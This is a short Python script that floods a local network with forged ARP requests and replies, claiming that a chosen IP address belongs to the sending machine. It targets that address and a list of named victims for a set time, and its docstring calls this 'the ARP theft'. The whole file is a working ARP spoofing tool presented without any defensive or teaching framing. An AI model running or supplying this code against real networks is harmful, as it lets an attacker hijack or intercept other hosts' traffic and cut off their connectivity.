"""Says for some seconds, to everybody on an interface and to each address there, that an address is this machine's: the ARP theft."""
import socket, struct, sys, time

interface, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
victims = sys.argv[4:]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
s.bind((interface, 0))
own = s.getsockname()[4]
everybody = b"\xff" * 6


def frame(operation, target):
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
    arp += own + socket.inet_aton(address) + everybody + socket.inet_aton(target)
    return everybody + own + struct.pack("!H", 0x0806) + arp


end = time.monotonic() + seconds
sent = 0
while time.monotonic() < end:
    for target in [address, *victims]:
        for operation in (1, 2):
            s.send(frame(operation, target))
            sent += 1
    time.sleep(0.2)
print(sent)
